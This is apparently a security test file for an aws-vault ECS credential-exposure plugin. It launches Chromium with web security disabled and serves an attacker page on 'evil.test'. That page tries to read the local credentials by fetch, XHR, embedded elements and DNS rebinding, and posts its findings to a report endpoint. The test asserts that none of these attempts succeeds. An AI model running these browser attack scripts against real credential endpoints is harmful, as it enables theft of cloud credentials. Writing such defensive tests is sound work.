/**
 * A page in a browser that tries to read credentials: by fetch, by what pages embed, and by DNS rebinding. It knows the
 * port and even the token, and the browser's own guards (CORS, access to the local network) are switched off, so that
 * what is left is ours.
 */
import assert from 'node:assert/strict'
import { type ChildProcess, spawn, spawnSync } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test } from 'node:test'
import { testContext } from '@aws-vault/plugin-sdk/testkit'
import ecs from '../../plugins/exposure-ecs/src/index.ts'

const SECRET = 'THE-SECRET-THAT-IS-SERVED'
const browser = ['chromium', 'chromium-browser', 'google-chrome'].find(
  name => spawnSync(name, ['--version']).status === 0,
)
const skip = browser === undefined ? 'needs chromium' : false
if (skip && process.env.CI === 'true') throw new Error(skip)

const source = {
  profile: 'work',
  current: async () => ({
    accessKeyId: 'ASIAIOSFODNN7EXAMPLE',
    secretAccessKey: SECRET,
    sessionToken: SECRET,
    expiration: new Date('2100-01-01'),
  }),
}

/** Tries all that a page can do, and reports what it could read, by the name of the attempt. */
const attack = (address: string, token: string, control: string): string => `
const found = {}
const tries = {
  control: () => fetch('${control}'),
  simple: () => fetch('${address}'),
  withToken: () => fetch('${address}', { headers: { Authorization: '${token}' } }),
  withCredentials: () => fetch('${address}', { headers: { Authorization: '${token}' }, credentials: 'include' }),
  opaque: () => fetch('${address}', { mode: 'no-cors', referrerPolicy: 'no-referrer' }),
  sameOrigin: () => fetch('/', { headers: { Authorization: '${token}' } }),
}
for (const [name, attempt] of Object.entries(tries)) {
  try {
    const answer = await attempt()
    found[name] = answer.status + ' ' + await answer.text()
  } catch (error) {
    found[name] = String(error)
  }
}
found.request = await new Promise(resolve => {
  const request = new XMLHttpRequest()
  request.open('GET', '${address}')
  request.setRequestHeader('Authorization', '${token}')
  request.onloadend = () => resolve(request.status + ' ' + request.responseText)
  request.send()
})
for (const kind of ['img', 'script', 'iframe', 'link']) {
  found[kind] = await new Promise(resolve => {
    const element = document.createElement(kind)
    element.onload = () => resolve('loaded ' + (element.contentDocument?.body.innerText ?? ''))
    element.onerror = () => resolve('failed')
    element.rel = 'stylesheet'
    element[kind === 'link' ? 'href' : 'src'] = '${address}'
    document.body.append(element)
  })
}`

/** A web server of the attacker: a page, and a place to report to. */
async function attacker(page: () => string): Promise<{ server: Server; port: number; reported: Promise<string> }> {
  const { promise: reported, resolve } = Promise.withResolvers<string>()
  const server = createServer((request, response) => {
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.setHeader('Connection', 'close')
    if (request.url === '/control') response.end('the control answer')
    else if (request.url === '/report') {
      let text = ''
      request.setEncoding('utf8').on('data', part => {
        text += part
      })
      request.on('end', () => {
        response.end()
        resolve(text)
      })
    } else response.end(page())
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return { server, port: (server.address() as AddressInfo).port, reported }
}

class Browser implements AsyncDisposable {
  readonly #profile = mkdtempSync(join(tmpdir(), 'aws-vault-browser-'))
  readonly #child: ChildProcess
  readonly ended: Promise<unknown>

  constructor(address: string) {
    const flags = [
      '--headless=new',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-dev-shm-usage',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-web-security',
      '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights',
      '--host-resolver-rules=MAP evil.test 127.0.0.1',
      `--user-data-dir=${this.#profile}`,
    ]
    this.#child = spawn(browser as string, [...flags, address], { stdio: 'ignore', detached: true })
    this.ended = once(this.#child, 'exit')
  }

  async [Symbol.asyncDispose](): Promise<void> {
    // The group: a browser is many processes.
    if (this.#child.pid !== undefined && this.#child.exitCode === null) process.kill(-this.#child.pid, 'SIGKILL')
    await this.ended
    rmSync(this.#profile, { recursive: true, force: true, maxRetries: 20, retryDelay: 100 })
  }
}

const page = (script: string, report: string): string =>
  `<!doctype html><body><script type="module">${script}
await fetch('${report}', { method: 'POST', body: JSON.stringify(found) })</script>`

test('a page of another site reads nothing, by no way that pages have', { skip }, async () => {
  const exposed = await ecs.expose(source, testContext())
  const address = exposed.environment.AWS_CONTAINER_CREDENTIALS_FULL_URI ?? ''
  const token = exposed.environment.AWS_CONTAINER_AUTHORIZATION_TOKEN ?? ''
  const site = await attacker(() =>
    page(attack(address, token, `http://127.0.0.1:${site.port}/control`), `http://127.0.0.1:${site.port}/report`),
  )
  {
    await using chromium = new Browser(`http://evil.test:${site.port}/`)
    const report = await Promise.race([site.reported, chromium.ended.then(() => 'the browser ended')])
    const found = JSON.parse(report) as Record<string, string>
    assert.equal(found.control, '200 the control answer', 'the page can read what is open to it')
    assert.ok(!report.includes(SECRET), report)
    for (const name of ['simple', 'withToken', 'withCredentials', 'request']) {
      assert.match(found[name] ?? '', /^403 |TypeError|^0 $/, `${name}: ${found[name]}`)
    }
    assert.match(report, /403 /, 'the attempts came as far as our server')
    assert.doesNotMatch(JSON.stringify([found.img, found.script]), /loaded/)
  }
  site.server.close()
  await exposed.close?.()
})

test('DNS rebinding: a page whose own name leads to our server reads nothing either', { skip }, async () => {
  // The attacker's server at a port, then ours at the same one, under the same name: the page is of the same origin.
  const report = await attacker(() => '')
  const origin = await attacker(() =>
    page(
      `let status = 200
for (let count = 0; count < 600 && status === 200; count++) {
  try { status = (await fetch('/again')).status } catch {}
  await new Promise(resolve => setTimeout(resolve, 50))
}
const token = 'TOKEN-THAT-SOMEBODY-LEAKED-TO-IT'
const found = { status }
for (const path of ['/', '/latest/', '/v1/credentials']) found[path] = await fetch(path, { headers: { Authorization: token } }).then(async answer => answer.status + ' ' + await answer.text(), String)`,
      `http://127.0.0.1:${report.port}/report`,
    ),
  )
  await using chromium = new Browser(`http://evil.test:${origin.port}/`)
  await once(origin.server, 'request')
  await once(origin.server, 'request')
  origin.server.close()
  origin.server.closeAllConnections()
  await once(origin.server, 'close')
  const exposed = await ecs.expose(source, testContext({ options: { port: origin.port } }))
  const text = await Promise.race([report.reported, chromium.ended.then(() => 'the browser ended')])
  const found = JSON.parse(text) as Record<string, string>
  assert.equal(found.status, 421)
  for (const path of ['/', '/latest/', '/v1/credentials']) assert.match(found[path] ?? '', /^421 /)
  assert.ok(!text.includes(SECRET), text)
  report.server.close()
  await exposed.close?.()
})
